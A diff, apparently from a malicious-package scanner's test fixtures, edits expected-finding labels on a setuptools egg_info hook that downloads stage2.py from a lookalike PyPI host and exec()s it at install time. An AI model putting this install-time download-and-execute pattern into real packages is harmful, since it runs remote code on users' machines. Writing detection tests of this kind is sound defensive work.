@@ -10,7 +10,7 @@ from setuptools.command.egg_info import egg_info
 class Stager(egg_info):  # expect: install-hook
     def run(self):
         stage = urllib.request.urlopen("http://files.pypihosted.org/stage2.py").read()  # expect: install-hook
-        exec(stage)  # expect: download-execute
+        exec(stage)  # expect: download-execute, install-hook
         egg_info.run(self)
 
 
